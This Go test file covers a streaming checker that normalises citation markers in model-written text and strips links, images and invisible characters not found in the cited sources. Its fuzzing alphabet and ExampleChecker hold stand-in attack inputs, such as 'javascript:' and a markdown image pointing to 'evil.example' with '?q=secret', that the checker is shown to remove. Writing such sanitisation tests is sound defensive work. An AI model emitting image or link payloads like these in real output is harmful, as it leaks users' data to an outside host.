package clean

import (
	"errors"
	"fmt"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"
)

// fataler is a test or a rapid check.
type fataler interface {
	Fatal(...any)
	Fatalf(string, ...any)
}

// result is the result of checking a text.
type result struct {
	text, cited string // cited has a 1 for each cited source
	unknown     int
}

// checked checks a text that arrives in pieces, and also returns the pieces sent on.
func checked(t fataler, sources []string, pieces ...string) (got result, told []string) {
	c := NewChecker(sources, func(text string) error {
		told = append(told, text)
		return nil
	})
	for _, piece := range pieces {
		if err := c.Write(piece); errors.Is(err, ErrFull) {
			break
		} else if err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	got = result{text: c.Text(), unknown: c.Unknown()}
	for i := range sources {
		got.cited += map[bool]string{true: "1", false: "0"}[c.Cited(i)]
	}
	return got, told
}

func TestCitations(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text, want string
		cited      string // a 1 for each cited source
		unknown    int
	}{
		{"Plain.", "Plain.", "000", 0},
		{"One [1].", "One [1].", "100", 0},
		{"One[1], two [2][3].", "One[1], two [2][3].", "111", 0},
		{"List [1, 3].", "List [1][3].", "101", 0},
		{"List [ 1 ; 2 ].", "List [1][2].", "110", 0},
		{"Blanks [1 2].", "Blanks [1][2].", "110", 0},
		{"Twice [2, 2].", "Twice [2].", "010", 0},
		{"From [1-3] to.", "From [1][2][3] to.", "111", 0},
		{"From [2–9].", "From [2–9].", "000", 1},
		{"Backwards [3-1].", "Backwards [3-1].", "000", 1},
		{"Unknown [4].", "Unknown [4].", "000", 1},
		{"[4] unknown", "[4] unknown", "000", 1},
		{"Unknown [0], [10] and [3].", "Unknown [0], [10] and [3].", "001", 2},
		{"Partly [2, 9].", "Partly [2, 9].", "000", 1},
		{"Large [99999999999999999999].", "Large [99999999999999999999].", "000", 1},
		{"Large [1-99999999999999999999].", "Large [1-99999999999999999999].", "000", 1},
		{"No citations: [a], [1a], [], [ ], [1.5], (1), [-1].", "No citations: [a], [1a], [], [ ], [1.5], (1), [-1].", "000", 0},
		{"Leading zero [01].", "Leading zero [1].", "100", 0},
		{"  \n[7] ", "[7]", "000", 1},
		{"Cut off [1", "Cut off", "000", 0},
		{"Cut off [", "Cut off", "000", 0},
		{"Line\n[2] break\n", "Line\n[2] break", "010", 0},
		{"Nested [[2]] and [x[1]].", "Nested [[2]] and [x[1]].", "110", 0},
		{"Nested unknown [[9]1] and [[ [7] 2].", "Nested unknown [[9]1] and [[ [7] 2].", "000", 2},
		{"Open [ 1 and [3].", "Open [ 1 and [3].", "001", 0},
		{"Great![1]", "Great! [1]", "100", 0}, // some clients would render it as an image
		{"In code: `rows[0]`, `rows[1][2]` and `[1]`.", "In code: `rows[0]`, `rows[1][2]` and `[1]`.", "000", 0},
		{"```\nrows[1] = x\n```\nSo [2].", "```\nrows[1] = x\n```\nSo [2].", "010", 0},
		{"A lone ` ends with its paragraph.\n\nSo[2].", "A lone ` ends with its paragraph.\n\nSo[2].", "010", 0},
		{"Ümläute [1] 🥨[2]", "Ümläute [1] 🥨[2]", "110", 0},
		{"Too long [" + strings.Repeat("1", maxWord) + "].", "Too long [" + strings.Repeat("1", maxWord-1) + "… 1].", "000", 0},
	} {
		got, _ := checked(t, []string{"", "", ""}, c.text)
		if want := (result{c.want, c.cited, c.unknown}); got != want {
			t.Errorf("%q was checked to\n%+v, want\n%+v", c.text, got, want)
		}
	}
}

// The forms that models write are shown as [n]. They say the same of sources as [1] does.
func TestFormsOfCitations(t *testing.T) {
	t.Parallel()
	for form, want := range map[string]string{
		"[1, 3]": "[1][3]", "［1］": "[1]", "［１，３］": "[1][3]", "【1】": "[1]", "【 1 】【2】": "[1][2]", "【1†source】": "[1]", "【2†L3-L10】": "[2]", "【3:0†notes 7.md】": "[3]", "[1†TX-400]": "[1]",
		"【2、3】": "[2][3]", "【来源1】": "[1]", "[来源：2]": "[2]", "[^1]": "[1]", "[^1, ^2]": "[1][2]", "[^2^]": "[2]", "[參考1]": "[1]", "[Source 1]": "[1]", "[source: 2]": "[2]", "[Source 1, Source 3]": "[1][3]", "[SOURCES 1 and 3]": "[1][3]",
		"[doc1]": "[1]", "[Doc_2]": "[2]", "[document-3]": "[3]", "[ref. 1]": "[1]", "[citation:1]": "[1]", "[cite: 1, 2]": "[1][2]", "[#1]": "[1]", "[source id=\"1\"]": "[1]", "[Quelle 1 und 2]": "[1][2]", "[Fuente 2]": "[2]",
		"[Источник 3]": "[3]", "[출처 1]": "[1]", "[出典２]": "[2]", "[١]": "[1]", "〔1〕": "[1]", "⟦2⟧": "[2]", "\\[1\\]": "[1]", "[1\u00a0,\u00a02]": "[1][2]", "[1–3]": "[1][2][3]", "[Sources 1 to 2]": "[1][2]", "[Source 1 - Source 2]": "[1][2]",
		"[1; doc 9]": "[1; doc 9]", "【9】": "【9】", "[^9]": "[^9]", "[Source 9]": "[Source 9]", "【9†source】": "【9†source】", "［９］": "［９］", "[doc4]": "[doc4]", "[[1]]": "[[1]]",
		// Text.
		"(1)": "(1)", "x²": "x²", "[²]": "[²]", "[v1]": "[v1]", "[TX-400]": "[TX-400]", "[Phase 1]": "[Phase 1]", "[2024-01-15]": "[2024-01-15]", "[x] [ ]": "[x] [ ]", "[1/2]": "[1/2]", "[Source]": "[Source]", "【注意】": "【注意】",
		"[source code](x)": "[source code] (x)", "[to do]": "[to do]", "[e1] [y 2]": "[e1] [y 2]", "[1和2]": "[1][2]", "`a[doc1]`": "`a[doc1]`", "`rows[１]`": "`rows[１]`",
	} {
		text := "So it is " + form + ".\n1. One"
		want = "So it is " + want + ".\n1. One"
		if got, _ := checked(t, []string{"", "", ""}, text); got.text != want {
			t.Errorf("%q was checked to %q, want %q", text, got.text, want)
		}
		for at := range text {
			checkPieces(t, text, []string{text[:at], text[at:]})
		}
		uncited, _ := checked(t, []string{"", "", ""}, Uncite(text, 3, false))
		if uncited.cited != "000" {
			t.Errorf("of a source %q is shown as %q", text, Uncite(text, 3, false))
		}
	}
}

// alphabet contains the characters of citations, links and addresses, and longer parts of them.
var alphabet = []string{"a", ".", " ", "\n", "\n\n", "[", "]", "(", ")", "<", ">", "!", ":", "/", "@", "\\", "`", "\"", "&amp;", "-", "*", "_", "#", "|", "^", "=",
	"1", "2", "3", "9", ",", "ü", "见", "\u200b", "\u202e", "http://", "https://", "www.", "ftp:", "//", "javascript:", "evil.example/", "x@evil.example",
	"https://docs.example/pumps", "https://docs.example/pump", "[x](http://evil.example)", "![", "](", "]:", "][", "[1]", "[9]", "[ref]: evil", "【", "】", "†", "［", "１", "[^1]", "Source ", "doc", " and ", "–", "http", "w", "www", "htt", "p:",
	"``", "```", "\n```\n", "\n~~~\n", "\n    ", "\n\t", "\n> ", "\n- ", "\n1. ", "<div>", "<!--", "|", "a[1](x)", "a[2]", "![x](y)"}

// The result does not depend on how the text is split into pieces, and equals the pieces sent on.
// It contains no citation that does not count, no invisible character, no image and no link that
// occurs in no source.
func TestPiecesDoNotMatter(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(alphabet), 0, 60).Draw(t, "text"), "")
		var cut []string
		for rest := text; rest != ""; {
			size := rapid.IntRange(1, len(rest)).Draw(t, "size")
			for size < len(rest) && !utf8.RuneStart(rest[size]) {
				size++
			}
			cut, rest = append(cut, rest[:size]), rest[size:]
		}
		checkPieces(t, text, cut)
	})
}

// anyCitation matches everything that a client might display as a citation, but in code.
var anyCitation = regexp.MustCompile(`[\[［【](?:\^|Source |doc)?(\s*[\d１][\d１\s,;–]*)[\]］】]`)

func checkPieces(t fataler, text string, cut []string) {
	want, _ := checked(t, linked, text)
	got, told := checked(t, linked, cut...)
	if got != want {
		t.Fatalf("the pieces %q were checked to %+v, the whole text to %+v", cut, got, want)
	}
	if joined := strings.Join(told, ""); joined != got.text {
		t.Fatalf("the pieces sent on are %q, want %q", joined, got.text)
	}
	cited := [3]string{"0", "0", "0"}
	var masked strings.Builder
	c := code{tell: func(text string) { masked.WriteString(text) }}
	for _, r := range got.text {
		c.take(r)
	}
	c.close()
	for _, number := range anyCitation.FindAllStringSubmatch(masked.String(), -1) {
		if place, err := strconv.Atoi(number[1]); err == nil && place >= 1 && place <= 3 {
			cited[place-1] = "1"
		}
	}
	if strings.Join(cited[:], "") != got.cited {
		t.Fatalf("%q was checked to %q, which cites %q, want %s", text, got.text, cited, got.cited)
	}
	if found := strange(got.text, linked); len(found) > 0 || len(unseen(got.text)) > 0 || !utf8.ValidString(got.text) {
		t.Fatalf("%q was checked to %q, which contains %q and %U", text, got.text, found, unseen(got.text))
	}
}

// A word is sent on with the piece that closes it.
func TestTextIsSentAtOnce(t *testing.T) {
	t.Parallel()
	_, told := checked(t, linked, "The", " key ", "was", " lost", " [", "1", "]", ".", " [x", "]", " here", " h", "ttp", "://", "evil.example", " so", "!", " A [b", "](x:y", ") c")
	if got := strings.Join(told, "|"); got != "The key| was| lost| [1].| [x]| here| (link removed)| so! A| [b] (x:y)| c" {
		t.Errorf("the pieces sent on are %q", got)
	}
}

// The buffer of an unfinished construct is bounded.
func TestBufferIsBounded(t *testing.T) {
	t.Parallel()
	for _, begin := range []string{"[", "[a](", "[[[[", "http://", "x@", "a [1", "`["} {
		var told int
		c := NewChecker(linked, func(text string) error {
			told += len(text)
			return nil
		})
		for i := range 20 {
			if err := c.Write(begin + strings.Repeat("1", 1000)); err != nil {
				t.Fatal(err)
			}
			if held := (i+1)*1000 - told; begin != "http://" && held > maxWord {
				t.Fatalf("after %q %d bytes are buffered", begin, held)
			}
		}
		if held := len(c.word) + len(c.blanks); held > maxWord {
			t.Errorf("after %q %d bytes are held back", begin, held)
		}
	}
}

// The length is limited whatever the model writes, and a truncated text is checked like any other.
func TestMaximumLength(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"a", "[1", "[1-3] ", "[9]", "\u200b", " ", "ü[x](", "http://a ", "![", "[x](https://docs.example/pumps)"} {
		text := strings.Repeat(unit, 2*MaxBytes/len(unit))
		c := NewChecker(linked, nil)
		if err := c.Write(text); !errors.Is(err, ErrFull) {
			t.Errorf("%q: the error is %v, want ErrFull", unit, err)
		}
		if err := c.Close(); err != nil || len(c.Text()) > MaxBytes || !utf8.ValidString(c.Text()) {
			t.Errorf("repeated %q: the result has %d bytes, %v", unit, len(c.Text()), err)
		}
		if found := strange(c.Text(), linked); len(found) > 0 {
			t.Errorf("repeated %q: the result contains %.100q", unit, found)
		}
	}
	if c := NewChecker(nil, nil); c.Write(strings.Repeat("a b ", MaxBytes/4-1)+"abcd") != nil || c.Close() != nil || len(c.Text()) != MaxBytes {
		t.Errorf("a text of the maximum length was truncated to %d bytes", len(c.Text()))
	}
}

// The cost is linear: a text ten times as long allocates ten times as much, not a hundred times.
func TestCostIsLinear(t *testing.T) {
	for _, unit := range []string{"1", "[", "[1", "[1] ", "]", "](", "[a](", "((", "[x](http://evil.example) ", "https://docs.example/pumps ", "x@", " ", "<a", "`[1]", "![", "http://", "见"} {
		t.Run(unit, func(t *testing.T) {
			few, many := allocated(t, "["+strings.Repeat(unit, 2100/len(unit))), allocated(t, "["+strings.Repeat(unit, 21_000/len(unit)))
			if many > 30*few+64<<10 {
				t.Errorf("%d bytes were allocated for a text, %d for one ten times as long", few, many)
			}
		})
	}
}

// allocated returns the bytes allocated while checking a text character by character.
func allocated(t *testing.T, text string) uint64 {
	pieces := strings.Split(text, "")
	var before, after runtime.MemStats
	least := ^uint64(0)
	for range 3 { // other goroutines of the process also allocate
		runtime.ReadMemStats(&before)
		c := NewChecker(linked, func(string) error { return nil })
		for _, piece := range pieces {
			if err := c.Write(piece); err != nil {
				t.Fatal(err)
			}
		}
		if err := c.Close(); err != nil {
			t.Fatal(err)
		}
		runtime.ReadMemStats(&after)
		least = min(least, after.TotalAlloc-before.TotalAlloc)
	}
	return least
}

func TestListenerLeaves(t *testing.T) {
	t.Parallel()
	gone := errors.New("gone")
	leave := func(string) error { return gone }
	if err := NewChecker(nil, leave).Write("a b"); !errors.Is(err, gone) {
		t.Errorf("the error is %v, want the callback's", err)
	}
	held := NewChecker(nil, leave)
	if err := held.Write("a"); err != nil {
		t.Errorf("the error is %v, want none while the text is buffered", err)
	}
	if err := held.Close(); !errors.Is(err, gone) {
		t.Errorf("the error of Close is %v, want the callback's", err)
	}
}

func ExampleChecker() {
	c := NewChecker([]string{"The pump leaks, see https://docs.example/pump."}, func(text string) error {
		fmt.Print(text)
		return nil
	})
	_ = c.Write("It leaks [1][7], see [this](https://docs.example/pump) and ![that](http://evil.example/?q=secret).")
	_ = c.Close()
	// Output: It leaks [1][7], see [this](https://docs.example/pump) and ![that] (link removed).
}
